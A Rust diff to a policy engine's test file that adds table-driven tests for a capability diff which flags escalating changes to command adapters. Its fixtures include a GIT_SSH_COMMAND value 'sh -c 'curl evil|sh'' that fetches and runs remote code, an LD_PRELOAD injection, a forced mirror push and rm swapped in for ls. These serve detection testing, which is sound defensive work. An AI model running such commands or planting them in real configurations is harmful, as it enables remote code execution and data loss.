@@ -1,6 +1,7 @@
 //! Table-driven tests of the pure policy functions (HCP.md §7.3, §9.3,
 //! §11.2–§11.3): the availability function over every combination of its
-//! conditions, `why` over the same table, and `holds` over a grants table.
+//! conditions, `why` over the same table, and `holds` over a grants table;
+//! `adapter_changed` of the capability diff (§13.7).
 
 use crate::engine::error::Fix;
 use crate::engine::lint::LintReport;
@@ -129,6 +130,11 @@ fn state(case: Case) -> State {
     state
 }
 
+/// The grants in force in a user store whose state is `state`.
+fn in_force(state: &State) -> grants::InForce {
+    grants::InForce::resolve(state.grants.as_ref(), None)
+}
+
 fn runnable(yes: bool) -> impl Fn(&Adapter, &Path) -> Option<Refusal> {
     move |_, _| {
         (!yes).then(|| Refusal::ProgramNotFound {
@@ -176,9 +182,11 @@ fn expected(case: Case, binding: BindingKind) -> (Vec<&'static str>, Status, boo
 fn availability_of_every_combination_of_conditions() {
     for binding in [BindingKind::Env, BindingKind::Public] {
         for case in Case::all() {
+            let st = state(case);
             let avail = pack_availability(
                 &view(case, binding),
-                &state(case),
+                &st,
+                &in_force(&st),
                 "user",
                 &runnable(case.runnable),
             );
@@ -229,7 +237,13 @@ fn why_lists_every_unmet_condition_of_every_combination() {
     for binding in [BindingKind::Env, BindingKind::Public] {
         for case in Case::all() {
             let v = view(case, binding);
-            let avail = pack_availability(&v, &state(case), "user", &runnable(case.runnable));
+            let avail = pack_availability(
+                &v,
+                &state(case),
+                &in_force(&state(case)),
+                "user",
+                &runnable(case.runnable),
+            );
             let (mut reasons, _, _, _) = expected(case, binding);
             if !case.installed {
                 reasons.insert(0, "not_installed");
@@ -277,7 +291,13 @@ fn why_of_a_broken_pack_is_unavailable_with_a_lint_fix() {
     if let Some(r) = v.installed.as_mut() {
         r.ok = false;
     }
-    let avail = pack_availability(&v, &state(case), "user", &runnable(true));
+    let avail = pack_availability(
+        &v,
+        &state(case),
+        &in_force(&state(case)),
+        "user",
+        &runnable(true),
+    );
     assert_eq!(avail.status, Status::Unavailable);
     let answer = why::explain(
         &avail,
@@ -338,9 +358,207 @@ fn holds_follows_the_grants_table() {
             *held,
             "{list:?} {cap} {pack}"
         );
-        // Absent grants: everyone holds everything (§9.3).
-        assert!(grants::holds(None, "p", *cap, pack));
+        // Absent grants: `user` holds everything, anyone else reads (§9.3).
+        assert!(grants::holds(None, "user", *cap, pack));
+        let read = *cap == Capability::ExecRead;
+        assert_eq!(grants::holds(None, "p", *cap, pack), read, "{cap}");
         // Another principal's grants never count.
         assert!(!grants::holds(Some(&grants), "q", *cap, pack));
+    }
+}
+
+// ---- adapter_changed (§13.7) ---------------------------------------------
+
+mod adapter_changed {
+    use crate::engine::pack::manifest::{Adapter, Command, Effect, Manifest, OutputKind};
+    use crate::engine::policy::capdiff::{self, CapabilityChange};
+    use serde_json::{Value, json};
+    use std::collections::BTreeMap;
+
+    fn pack(adapter: Adapter) -> Manifest {
+        Manifest {
+            id: "acme.t".into(),
+            version: "1.0.0".into(),
+            commands: vec![Command {
+                key: "sync".into(),
+                summary: "Sync".into(),
+                effect: Effect::Read,
+                args: Vec::new(),
+                adapter,
+                timeout_ms: 1000,
+                output: OutputKind::Text,
+            }],
+            ..Manifest::default()
+        }
+    }
+
+    fn process(program: &str, argv: &[&str], env: &[(&str, &str)]) -> Adapter {
+        Adapter::Process {
+            program: program.into(),
+            argv: argv.iter().map(|s| s.to_string()).collect(),
+            env: env
+                .iter()
+                .map(|(k, v)| (k.to_string(), v.to_string()))
+                .collect(),
+        }
+    }
+
+    fn http(method: &str, url: &str, headers: &[(&str, &str)], body: Option<Value>) -> Adapter {
+        let headers: BTreeMap<String, String> = headers
+            .iter()
+            .map(|(k, v)| (k.to_string(), v.to_string()))
+            .collect();
+        Adapter::Http {
+            method: method.into(),
+            url: url.into(),
+            headers,
+            body,
+        }
+    }
+
+    fn docs(changes: &[CapabilityChange]) -> Vec<Value> {
+        changes
+            .iter()
+            .map(|c| serde_json::to_value(c).unwrap_or_default())
+            .collect()
+    }
+
+    fn diff(old: Adapter, new: Adapter) -> Vec<Value> {
+        docs(&capdiff::diff(&pack(old), &pack(new)))
+    }
+
+    #[test]
+    fn git_status_becoming_a_forced_mirror_push_is_an_argv_change() {
+        let old = process("git", &["status"], &[]);
+        let new = process("git", &["push", "--force", "--mirror"], &[]);
+        assert_eq!(
+            diff(old, new),
+            [
+                json!({"kind": "adapter_changed", "verb_key": "sync", "field": "argv",
+                    "from": ["status"], "to": ["push", "--force", "--mirror"],
+                    "escalates": true})
+            ]
+        );
+    }
+
+    #[test]
+    fn an_env_value_that_changes_is_an_env_change_naming_the_variable() {
+        let old = process("git", &["fetch"], &[("GIT_SSH_COMMAND", "ssh")]);
+        let new = process(
+            "git",
+            &["fetch"],
+            &[
+                ("GIT_SSH_COMMAND", "sh -c 'curl evil|sh'"),
+                ("LD_PRELOAD", "x.so"),
+            ],
+        );
+        assert_eq!(
+            diff(old, new),
+            [
+                json!({"kind": "adapter_changed", "verb_key": "sync", "field": "env",
+                       "name": "GIT_SSH_COMMAND", "from": "ssh",
+                       "to": "sh -c 'curl evil|sh'", "escalates": true}),
+                // A variable it did not set before stays adapter_env_added.
+                json!({"kind": "adapter_env_added", "verb_key": "sync",
+                       "name": "LD_PRELOAD", "escalates": true}),
+            ]
+        );
+    }
+
+    #[test]
+    fn get_becoming_delete_is_a_method_change() {
+        let url = "https://api.example.com/items";
+        let changes = diff(http("GET", url, &[], None), http("DELETE", url, &[], None));
+        assert_eq!(
+            changes,
+            [
+                json!({"kind": "adapter_changed", "verb_key": "sync", "field": "method",
+                    "from": "GET", "to": "DELETE", "escalates": true})
+            ]
+        );
+    }
+
+    #[test]
+    fn one_change_per_field_in_order_placeholders_as_written() {
+        let old = http(
+            "POST",
+            "https://api.example.com/a",
+            &[("Authorization", "Bearer ${TOKEN}")],
+            Some(json!({"q": "{q}"})),
+        );
+        let new = http(
+            "PUT",
+            "https://api.example.com/b",
+            &[("Authorization", "Bearer ${TOKEN}"), ("X-Debug", "1")],
+            None,
+        );
+        let changes = diff(old, new);
+        let fields: Vec<&str> = changes
+            .iter()
+            .map(|c| c["field"].as_str().unwrap_or("?"))
+            .collect();
+        assert_eq!(fields, ["method", "url", "headers", "body"], "{changes:?}");
+        assert_eq!(
+            changes[2]["from"],
+            json!({"Authorization": "Bearer ${TOKEN}"})
+        );
+        assert_eq!(changes[3]["from"], json!({"q": "{q}"}));
+        assert_eq!(changes[3]["to"], Value::Null);
+        assert!(
+            changes
+                .iter()
+                .all(|c| c["escalates"] == true && c.get("name").is_none())
+        );
+    }
+
+    #[test]
+    fn a_new_program_and_a_new_kind() {
+        let changes = diff(process("ls", &[], &[]), process("rm", &[], &[]));
+        let kinds: Vec<(&str, &str)> = changes
+            .iter()
+            .map(|c| {
+                (
+                    c["kind"].as_str().unwrap_or("?"),
+                    c["field"].as_str().unwrap_or(""),
+                )
+            })
+            .collect();
+        assert_eq!(
+            kinds,
+            [("adapter_changed", "program"), ("program_added", "")]
+        );
+        assert_eq!(
+            (&changes[0]["from"], &changes[0]["to"]),
+            (&json!("ls"), &json!("rm"))
+        );
+        let changes = diff(
+            process("ls", &[], &[]),
+            http("GET", "https://api.example.com/", &[], None),
+        );
+        assert_eq!(
+            changes[0],
+            json!({"kind": "adapter_changed", "verb_key": "sync", "field": "kind",
+                   "from": "process", "to": "http", "escalates": true})
+        );
+        assert_eq!(
+            changes
+                .iter()
+                .filter(|c| c["kind"] == "adapter_changed")
+                .count(),
+            1
+        );
+    }
+
+    #[test]
+    fn a_changed_timeout_alone_and_the_same_adapter_are_no_change() {
+        let adapter = process("git", &["status"], &[("A", "1")]);
+        let old = pack(adapter.clone());
+        let mut new = pack(adapter);
+        new.commands[0].timeout_ms = 60_000;
+        assert_eq!(capdiff::diff(&old, &new), []);
+        // Nor is a variable it no longer sets.
+        let old = pack(process("git", &["status"], &[("A", "1")]));
+        let new = pack(process("git", &["status"], &[]));
+        assert_eq!(capdiff::diff(&old, &new), []);
     }
 }
